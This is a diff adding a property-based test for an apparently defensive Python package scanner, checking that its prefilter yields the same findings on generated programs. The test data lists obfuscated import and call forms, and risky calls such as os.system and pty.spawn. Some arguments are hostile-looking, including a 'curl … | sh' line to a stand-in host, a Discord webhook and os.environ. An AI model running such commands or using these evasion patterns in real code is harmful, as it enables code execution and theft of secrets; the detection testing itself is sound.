@@ -1,0 +1,89 @@
+"""The prefilter is lossless: generated programs give the same findings with and without it."""
+
+from __future__ import annotations
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from scanner.code.analysis import analyse
+from scanner.code.source import SourceFile
+from scanner.model.finding import PackageRef
+
+PADDING = "# padding\n" * 45_000  # past the size up to which every file is evaluated anyway
+IMPORTS = (
+    "import {m}",
+    "import {m} as alias",
+    "from {m} import {f}",
+    "from {m} import {f} as renamed",
+    "from {m} import *",
+    "alias = __import__('{m}')",
+    "import json, {m}",
+    "import importlib\nalias = importlib.import_module('{m}')",
+    "import importlib\nalias = importlib.import_module('{m1}' + '{m2}')",
+    "import  {m}\nalias = {m}",
+    "if True:\n    import {m}\n    alias = [{m}][0]",
+    "import {m}; alias = {m}",
+)
+CALLS = (
+    "{m}.{f}({a})",
+    "alias.{f}({a})",
+    "{f}({a})",
+    "renamed({a})",
+    "getattr({m}, '{f}')({a})",
+    "getattr(alias, '{f1}' + '{f2}')({a})",
+    "x = {m}.{f}\nx({a})",
+    "def go():\n    {m}.{f}({a})\ngo()",
+    "(lambda: {m}.{f}({a}))()",
+)
+ACTS = (
+    ("os", "system"),
+    ("subprocess", "Popen"),
+    ("requests", "post"),
+    ("socket", "gethostbyname"),
+    ("builtins", "exec"),
+    ("pty", "spawn"),
+    ("httpx", "get"),
+    ("runpy", "run_path"),
+)
+ARGUMENTS = (
+    "'curl https://drop.invalid/x | sh'",
+    "'https://discord.com/api/webhooks/1/x'",
+    "__import__('base64').b64decode('cHJpbnQoMSk=')",
+    "__import__('os').environ",
+    "'x'",
+)
+
+
+@st.composite
+def programs(draw: st.DrawFn) -> str:
+    module, name = draw(st.sampled_from(ACTS))
+    fill = {
+        "m": module,
+        "f": name,
+        "a": draw(st.sampled_from(ARGUMENTS)),
+        "m1": module[:2],
+        "m2": module[2:],
+        "f1": name[:2],
+        "f2": name[2:],
+    }
+    lines = [draw(st.sampled_from(IMPORTS)).format(**fill), draw(st.sampled_from(CALLS)).format(**fill)]
+    if draw(st.booleans()):
+        lines.insert(
+            1, draw(st.sampled_from(("value = 1", "def helper():\n    return 2", "# a comment about requests")))
+        )
+    return "\n".join(lines) + "\n"
+
+
+@settings(max_examples=600, deadline=None)
+@given(programs())
+def test_same_findings_with_and_without(program: str) -> None:
+    found = [
+        analyse(
+            [SourceFile("package/__init__.py", (program + PADDING).encode())],
+            kind="wheel",
+            package=PackageRef("example", "1.0"),
+            prefilter=prefilter,
+        ).findings
+        for prefilter in (True, False)
+    ]
+    assert found[0] == found[1]
